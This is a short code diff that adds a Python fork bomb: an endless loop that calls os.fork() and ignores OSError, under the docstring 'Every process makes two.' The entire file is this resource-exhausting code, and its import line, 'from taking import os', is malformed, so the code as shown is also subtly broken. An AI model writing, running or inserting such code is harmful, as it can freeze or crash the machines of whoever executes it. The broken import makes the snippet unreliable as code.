@@ -1,0 +1,9 @@
+"""Every process makes two."""
+
+from taking import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
